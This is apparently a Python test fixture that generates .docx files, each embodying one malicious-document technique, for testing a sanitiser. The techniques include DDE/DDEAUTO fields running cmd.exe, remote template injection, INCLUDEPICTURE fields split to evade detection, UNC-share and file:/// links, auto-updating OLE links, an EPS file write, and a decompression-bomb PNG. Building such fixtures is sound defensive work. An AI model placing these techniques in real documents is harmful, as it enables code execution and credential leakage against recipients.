"""Documents that try to fetch, to run or to hide something: one per way in, as small as the way allows."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping
from dataclasses import dataclass, field
from zlib import compress, crc32

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_NAMES = (
    f'xmlns:w="{_W}" xmlns:r="{_R}" '
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
    'xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
    'xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram" '
    'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:w10="urn:schemas-microsoft-com:office:word" '
    'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml"'
)
_TYPES = {
    "": "document.main", "header1": "header", "footnotes": "footnotes", "settings": "settings", "styles": "styles",
    "numbering": "numbering", "fontTable": "fontTable", "webSettings": "webSettings", "comments": "comments",
}  # fmt: skip


def png(width: int = 2, height: int = 2) -> bytes:
    """A PNG whose head says this size; of more than a few pixels nothing else is there."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + crc32(name + data).to_bytes(4, "big")

    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\0\0\0"
    rows = compress((b"\0" + b"\xc8\0\0" * width) * height) if width * height < 10_000 else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


@dataclass(frozen=True)
class Way:
    """A way in: what stands in the body (or in other parts), and where its relationships lead.

    `links`: id -> (kind, target) of external ones, @URL@ for the address that listens; `inner`: id -> (kind, part);
    `parts`: bytes by name; `of`: the part the relationships are of. `kept`: words that must not be lost.
    """

    body: str = ""
    links: Mapping[str, tuple[str, str]] = field(default_factory=dict)
    inner: Mapping[str, tuple[str, str]] = field(default_factory=dict)
    parts: Mapping[str, bytes | str] = field(default_factory=dict)
    of: str = "word/document.xml"
    kept: str = ""


def document(way: Way, url: str, before: str = "", after: str = "") -> bytes:
    """A .docx of a few paragraphs with this way in among them; `before`, `after`: paragraphs as XML."""
    body = f"{before}{way.body.replace('@URL@', url)}{after}<w:sectPr/>"
    parts: dict[str, bytes] = {"word/document.xml": _part("document", f"<w:body>{body}</w:body>")}
    related: dict[str, list[str]] = {"word/document.xml": []}
    for name, content in way.parts.items():
        parts[name] = content if isinstance(content, bytes) else content.replace("@URL@", url).encode()
    for identity, (kind, part) in way.inner.items():
        target = part.removeprefix("word/") if part.startswith("word/") else f"../{part}"
        related.setdefault(way.of, []).append(_relation(identity, kind, target))
    for identity, (kind, target) in way.links.items():
        related.setdefault(way.of, []).append(_relation(identity, kind, target.replace("@URL@", url), external=True))
    if way.of != "word/document.xml":
        kind = next(k for k in _TYPES if k and k in way.of)
        related["word/document.xml"].append(_relation("rIdOf", kind.rstrip("1"), way.of.removeprefix("word/")))
    for owner, lines in related.items():
        folder, _, file = owner.rpartition("/")
        parts[f"{folder}/_rels/{file}.rels"] = _relations(lines)
    parts["_rels/.rels"] = _relations([_relation("rId1", "officeDocument", "word/document.xml")])
    return packed({"[Content_Types].xml": _types(parts), **parts})


def packed(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def _part(root: str, inside: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?><w:{root} {_NAMES}>{inside}</w:{root}>'.encode()


def _relations(lines: list[str]) -> bytes:
    return f'<Relationships xmlns="{_RELATIONS}">{"".join(lines)}</Relationships>'.encode()


def _relation(identity: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{identity}" Type="{_R}/{kind}" Target="{target}"{mode}/>'


def _types(parts: Mapping[str, bytes]) -> bytes:
    named = "".join(
        f'<Override PartName="/word/{name or "document"}.xml" ContentType="application/vnd.openxmlformats-'
        f'officedocument.wordprocessingml.{kind}+xml"/>'
        for name, kind in _TYPES.items()
        if f"word/{name or 'document'}.xml" in parts
    )
    named += "".join(
        f'<Override PartName="/{name}" ContentType="application/vnd.openxmlformats-'
        'officedocument.drawingml.chart+xml"/>'
        for name in parts
        if name.startswith("word/charts/") and name.endswith(".xml")
    )
    kinds = {"rels": "application/vnd.openxmlformats-package.relationships+xml", "xml": "application/xml",
             "png": "image/png", "jpeg": "image/jpeg", "emf": "image/x-emf", "svg": "image/svg+xml",
             "bin": "application/vnd.openxmlformats-officedocument.oleObject", "html": "text/html",
             "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
             "odttf": "application/vnd.openxmlformats-officedocument.obfuscatedFont"}  # fmt: skip
    defaults = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in kinds.items())
    return (
        f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{defaults}{named}</Types>'
    ).encode()


def paragraph(inside: str) -> str:
    return f"<w:p>{inside}</w:p>"


def run(inside: str) -> str:
    return f"<w:r>{inside}</w:r>"


def said(text: str) -> str:
    return run(f'<w:t xml:space="preserve">{text}</w:t>')


def drawing(blip: str, more: str = "") -> str:
    return run(
        '<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="7" name="Hình" descr="Ảnh hội nghị"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr>'
        f'<pic:cNvPr id="7" name="a">{more}</pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>{blip}<a:stretch>'
        '<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" '
        'cy="900000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData>'
        "</a:graphic></wp:inline></w:drawing>"
    )


def field_of(*instruction: str, result: str = "kết quả") -> str:
    """A complex field whose instruction is spread over runs; pieces that begin with '<' go in as they are."""
    pieces = "".join(
        p if p.startswith("<") else run(f'<w:instrText xml:space="preserve">{p}</w:instrText>') for p in instruction
    )
    return (
        run('<w:fldChar w:fldCharType="begin"/>')
        + pieces
        + run('<w:fldChar w:fldCharType="separate"/>')
        + said(result)
        + run('<w:fldChar w:fldCharType="end"/>')
    )


def _simple(instruction: str) -> str:
    return f'<w:fldSimple w:instr="{instruction}">{said("kết quả")}</w:fldSimple>'


_BLIP_LINK = '<a:blip r:link="rIdX"/>'


def _vml(inside: str) -> str:
    return run(f'<w:pict><v:shape id="s" style="width:80pt;height:60pt">{inside}</v:shape></w:pict>')


_BOX = (
    '<mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/>'
    '<wp:docPr id="8" name="Hộp"/><a:graphic><a:graphicData '
    'uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape"><wps:wsp><wps:cNvSpPr txBox="1"/>'
    '<wps:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="900000"/></a:xfrm><a:prstGeom prst="rect">'
    "<a:avLst/></a:prstGeom>{choice}</wps:spPr><wps:txbx><w:txbxContent>{text}</w:txbxContent></wps:txbx><wps:bodyPr/>"
    "</wps:wsp></a:graphicData></a:graphic></wp:inline></w:drawing></mc:Choice><mc:Fallback><w:pict>"
    '<v:shape style="width:80pt;height:60pt">{fallback}<v:textbox><w:txbxContent>{text}</w:txbxContent></v:textbox>'
    "</v:shape></w:pict></mc:Fallback></mc:AlternateContent>"
)
_FILL = '<a:blipFill><a:blip r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></a:blipFill>'
_PICTURE = {"rIdX": ("image", "@URL@/x.png")}
_INDIRECT = field_of("QUOTE TEXT", result="TEXT")

WAYS: dict[str, Way] = {
    "picture_linked": Way(paragraph(drawing(_BLIP_LINK)), _PICTURE),
    "picture_embedded_outside": Way(paragraph(drawing('<a:blip r:embed="rIdX"/>')), _PICTURE),
    "picture_linked_to_a_file": Way(paragraph(drawing(_BLIP_LINK)), {"rIdX": ("image", "file:///etc/hostname")}),
    "picture_linked_to_a_share": Way(paragraph(drawing(_BLIP_LINK)), {"rIdX": ("image", r"\\127.0.0.1\chung\x.png")}),
    "picture_of_strict_names": Way(
        paragraph(drawing('<a:blip xmlns:s="http://purl.oclc.org/ooxml/officeDocument/relationships" s:link="rIdX"/>')),
        _PICTURE,
    ),
    "picture_in_a_header": Way(
        parts={"word/header1.xml": _part("hdr", paragraph(said("Đầu trang") + drawing(_BLIP_LINK))).decode()},
        links=_PICTURE,
        of="word/header1.xml",
    ),
    "vml_source": Way(paragraph(_vml('<v:imagedata src="@URL@/x.png"/>'))),
    "vml_relation": Way(paragraph(_vml('<v:imagedata r:id="rIdX"/>')), _PICTURE),
    "vml_href": Way(paragraph(_vml('<v:imagedata r:href="rIdX" o:href="@URL@/y.png"/>')), _PICTURE),
    "vml_fill": Way(paragraph(_vml('<v:fill type="frame" r:id="rIdX" src="@URL@/z.png"/>')), _PICTURE),
    "vml_shape_link": Way(
        paragraph(
            run(
                '<w:pict><v:shape href="@URL@/a" style="width:9pt;height:9pt"><v:textbox><w:txbxContent>'
                f"{paragraph(said('Chữ trong hộp'))}</w:txbxContent></v:textbox></v:shape></w:pict>"
            )
        ),
        kept="Chữ trong hộp",
    ),
    "box_filled_in_choice": Way(
        paragraph(run(_BOX.format(choice=_FILL, fallback="", text=paragraph(said("Chữ trong hộp"))))),
        _PICTURE,
        kept="Chữ trong hộp",
    ),
    "box_filled_in_fallback": Way(
        paragraph(run(_BOX.format(choice="", fallback='<v:fill r:id="rIdX"/>', text=paragraph(said("Chữ trong hộp"))))),
        _PICTURE,
        kept="Chữ trong hộp",
    ),
    "field_in_a_box": Way(
        paragraph(
            run(_BOX.format(choice="", fallback="", text=paragraph(field_of(' INCLUDEPICTURE "@URL@/b.png" \\d '))))
        ),
        kept="kết quả",
    ),
    "include_text": Way(paragraph(field_of(' INCLUDETEXT "@URL@/a.docx" ')), kept="kết quả"),
    "include_picture": Way(paragraph(field_of(' INCLUDEPICTURE "@URL@/a.png" \\d ')), kept="kết quả"),
    "include_picture_small": Way(paragraph(field_of('\u00a0 includepicture \t "@URL@/a.png"')), kept="kết quả"),
    "include_split": Way(paragraph(field_of(" INC", "LUDE", 'PICTURE "@URL@/a.png"')), kept="kết quả"),
    "include_split_by_text": Way(paragraph(field_of(" INCLUDE", said("PICTURE"), ' "@URL@/a.png"')), kept="kết quả"),
    "include_nested": Way(paragraph(field_of(" INCLUDE", _INDIRECT, ' "@URL@/a.docx"')), kept="kết quả"),
    "include_behind_page": Way(paragraph(field_of(" PAGE", _INDIRECT, ' "@URL@/a.docx"')), kept="kết quả"),
    "include_simple": Way(paragraph(_simple("INCLUDEPICTURE &quot;@URL@/a.png&quot;")), kept="kết quả"),
    "dde": Way(paragraph(field_of(" DDE cmd &quot;/c calc&quot; x ")), kept="kết quả"),
    "ddeauto": Way(
        paragraph(field_of(" DdeAuto c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; ")), kept="kết quả"
    ),
    "link": Way(paragraph(field_of(" LINK Excel.Sheet.12 &quot;@URL@/a.xlsx&quot; S1 \\a ")), kept="kết quả"),
    "import": Way(paragraph(field_of(" IMPORT &quot;@URL@/a.png&quot; ")), kept="kết quả"),
    "database": Way(paragraph(field_of(" DATABASE \\d &quot;@URL@/a.mdb&quot; ")), kept="kết quả"),
    "macro_button": Way(paragraph(field_of(" MACROBUTTON Chay Bấm vào đây ")), kept="kết quả"),
    "autotext": Way(paragraph(field_of(" AUTOTEXT la ")), kept="kết quả"),
    "doc_variable": Way(paragraph(field_of(" DOCVARIABLE la ")), kept="kết quả"),
    "referenced_document": Way(paragraph(field_of(" RD &quot;@URL@/a.docx&quot; ")), kept="kết quả"),
    "link_field_to_a_file": Way(paragraph(field_of(" HYPERLINK &quot;file:///c:/a.exe&quot; ")), kept="kết quả"),
    "link_field_to_a_share": Way(paragraph(field_of(" HYPERLINK \\l &quot;x&quot; \\\\may\\chung ")), kept="kết quả"),
    "unfinished_field": Way(
        paragraph(run('<w:fldChar w:fldCharType="begin"/>') + run('<w:instrText>INCLUDETEXT "@URL@/a"</w:instrText>'))
        + paragraph(said("Đoạn sau trường hỏng.")),
        kept="Đoạn sau trường hỏng.",
    ),
    "field_over_paragraphs": Way(
        paragraph(run('<w:fldChar w:fldCharType="begin"/>') + run("<w:instrText>INCLUDE</w:instrText>"))
        + paragraph(
            run('<w:instrText>TEXT "@URL@/a"</w:instrText><w:fldChar w:fldCharType="separate"/>')
            + said("kết quả")
            + run('<w:fldChar w:fldCharType="end"/>')
        ),
        kept="kết quả",
    ),
    "link_to_a_file": Way(
        paragraph(f'<w:hyperlink r:id="rIdX">{said("xem tệp")}</w:hyperlink>'),
        {"rIdX": ("hyperlink", "file:///etc/hostname")},
        kept="xem tệp",
    ),
    "link_to_a_share": Way(
        paragraph(f'<w:hyperlink r:id="rIdX">{said("xem tệp")}</w:hyperlink>'),
        {"rIdX": ("hyperlink", r"\\127.0.0.1\chung\a.docx")},
        kept="xem tệp",
    ),
    "link_on_a_picture": Way(
        paragraph(drawing('<a:blip r:embed="rIdP"/>', '<a:hlinkClick r:id="rIdX"/>')),
        {"rIdX": ("hyperlink", "file:///etc/hostname")},
        {"rIdP": ("image", "word/media/a.png")},
        {"word/media/a.png": png()},
    ),
    "picture_linked_and_embedded": Way(
        paragraph(drawing('<a:blip r:embed="rIdP" r:link="rIdX"/>')),
        _PICTURE,
        {"rIdP": ("image", "word/media/a.png")},
        {"word/media/a.png": png()},
    ),
    "svg_beside_a_picture": Way(
        paragraph(
            drawing(
                '<a:blip r:embed="rIdP"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
                '<asvg:svgBlip r:embed="rIdX"/></a:ext></a:extLst></a:blip>'
            )
        ),
        {},
        {"rIdP": ("image", "word/media/a.png"), "rIdX": ("image", "word/media/a.svg")},
        {
            "word/media/a.png": png(),
            "word/media/a.svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="@URL@/s.png" width="9"/></svg>',
        },
    ),
    "svg_as_png": Way(
        paragraph(drawing('<a:blip r:embed="rIdX"/>')),
        {},
        {"rIdX": ("image", "word/media/a.png")},
        {"word/media/a.png": '<svg xmlns="http://www.w3.org/2000/svg"><image href="@URL@/s.png"/></svg>'},
    ),
    "eps_as_png": Way(
        paragraph(drawing('<a:blip r:embed="rIdX"/>')),
        {},
        {"rIdX": ("image", "word/media/a.png")},
        {"word/media/a.png": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/tmp/x) (w) file closefile\n"},
    ),
    "huge_png": Way(
        paragraph(drawing('<a:blip r:embed="rIdX"/>')),
        {},
        {"rIdX": ("image", "word/media/a.png")},
        {"word/media/a.png": png(60_000, 60_000)},
    ),
    "ole_object": Way(
        paragraph(
            said("Trước ")
            + run(
                '<w:object><v:shape id="o" style="width:9pt;height:9pt"/><o:OLEObject Type="Embed" '
                'ProgID="Package" ShapeID="o" DrawAspect="Icon" ObjectID="_1" r:id="rIdX"/></w:object>'
            )
        ),
        {},
        {"rIdX": ("oleObject", "word/embeddings/a.bin")},
        {"word/embeddings/a.bin": b"\xd0\xcf\x11\xe0" + bytes(600)},
        kept="Trước",
    ),
    "ole_link": Way(
        paragraph(
            run(
                '<w:object><v:shape id="o" style="width:9pt;height:9pt"/><o:OLEObject Type="Link" ProgID="Word.Document'
                '" ShapeID="o" DrawAspect="Content" UpdateMode="Always" r:id="rIdX"/></w:object>'
            )
        ),
        {"rIdX": ("oleObject", "@URL@/a.docx")},
    ),
    "ole_in_a_picture": Way(
        paragraph(
            run(
                '<w:pict><v:shape id="o" style="width:9pt;height:9pt"/><o:OLEObject Type="Link" ProgID="htmlfile" '
                'ShapeID="o" r:id="rIdX"/></w:pict>'
            )
        ),
        {"rIdX": ("oleObject", "@URL@/a.html")},
    ),
    "active_x": Way(
        paragraph(
            run(
                '<w:object><v:shape id="o" style="width:9pt;height:9pt"/><w:control r:id="rIdX" w:name="Nut" '
                'w:shapeid="o"/></w:object>'
            )
        ),
        {},
        {"rIdX": ("control", "word/activeX/a.xml")},
        {"word/activeX/a.xml": "<x/>"},
    ),
    "other_format": Way(
        '<w:altChunk r:id="rIdX"/>',
        {},
        {"rIdX": ("aFChunk", "word/a.html")},
        {"word/a.html": '<html><body>Chữ của trang<img src="@URL@/h.png"/></body></html>'},
        kept="Chữ của trang",
    ),
    "other_format_outside": Way('<w:altChunk r:id="rIdX"/>', {"rIdX": ("aFChunk", "@URL@/a.html")}),
    "sub_document": Way(paragraph('<w:subDoc r:id="rIdX"/>'), {"rIdX": ("subDocument", "@URL@/a.docx")}),
    "template": Way(
        parts={"word/settings.xml": _part("settings", '<w:attachedTemplate r:id="rIdX"/>').decode()},
        links={"rIdX": ("attachedTemplate", "@URL@/a.dotm")},
        of="word/settings.xml",
    ),
    "mail_merge": Way(
        parts={
            "word/settings.xml": _part(
                "settings",
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource '
                'r:id="rIdX"/></w:mailMerge><w:docVars><w:docVar w:name="a" w:val="b"/>'
                "</w:docVars>",
            ).decode()
        },
        links={"rIdX": ("mailMergeSource", "@URL@/a.csv")},
        of="word/settings.xml",
    ),
    "frames": Way(
        parts={
            "word/webSettings.xml": _part(
                "webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rIdX"/></w:frame></w:frameset>'
            ).decode()
        },
        links={"rIdX": ("frame", "@URL@/a.htm")},
        of="word/webSettings.xml",
    ),
    "font": Way(
        parts={
            "word/fontTable.xml": _part("fonts", '<w:font w:name="Lạ"><w:embedRegular r:id="rIdX"/></w:font>').decode(),
            "word/fonts/f.odttf": bytes(64),
        },
        inner={"rIdX": ("font", "word/fonts/f.odttf")},
        of="word/fontTable.xml",
    ),
    "bullet": Way(
        parts={
            "word/numbering.xml": _part(
                "numbering",
                '<w:numPicBullet w:numPicBulletId="0"><w:pict>'
                '<v:shape style="width:9pt;height:9pt"><v:imagedata r:id="rIdX"/></v:shape></w:pict></w:numPicBullet>',
            ).decode()
        },
        links=_PICTURE,
        of="word/numbering.xml",
    ),
    "bound_control": Way(
        paragraph(
            '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{0}"/></w:sdtPr><w:sdtContent>'
            f"{said('Chữ gắn dữ liệu')}</w:sdtContent></w:sdt>"
        ),
        {},
        {"rIdX": ("customXml", "customXml/item1.xml")},
        {"customXml/item1.xml": "<a>khác</a>"},
        kept="Chữ gắn dữ liệu",
    ),
    "chart": Way(
        paragraph(
            run(
                '<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="9" name="Biểu đồ"/><a:graphic>'
                '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart r:id="rIdC"/>'
                "</a:graphicData></a:graphic></wp:inline></w:drawing>"
            )
        ),
        {},
        {"rIdC": ("chart", "word/charts/chart1.xml")},
        {
            "word/charts/chart1.xml": _part("x", "")
            .decode()
            .replace("w:x", "c:chartSpace")
            .replace(
                "></c:chartSpace>", '><c:chart><c:plotArea/></c:chart><c:externalData r:id="rIdX"/></c:chartSpace>'
            ),
            "word/charts/_rels/chart1.xml.rels": f'<Relationships xmlns="{_RELATIONS}">'
            + _relation("rIdX", "oleObject", "@URL@/a.xlsx", external=True)
            + "</Relationships>",
        },
    ),
    "smart_art": Way(
        paragraph(
            run(
                '<w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="9" name="Sơ đồ"/><a:graphic>'
                '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/diagram"><dgm:relIds '
                'r:dm="rIdX" r:lo="rIdX" r:qs="rIdX" r:cs="rIdX"/></a:graphicData></a:graphic></wp:inline>'
                "</w:drawing>"
            )
        ),
        {},
        {"rIdX": ("diagramData", "word/diagrams/d.xml")},
        {
            "word/diagrams/d.xml": f"<dgm:dataModel {_NAMES}><a:p><a:r><a:t>Ban Chấp hành</a:t></a:r></a:p>"
            "</dgm:dataModel>"
        },
        kept="Ban Chấp hành",
    ),
    "unknown_element": Way(
        f'<w:tach xmlns:w="urn:la">{paragraph(said("ẩn"))}</w:tach>' + '<la xmlns="urn:la" r:id="rIdX">chữ</la>',
        _PICTURE,
    ),
    "relation_that_nothing_names": Way(links={"rIdX": ("oleObject", "@URL@/a.docx")}),
}
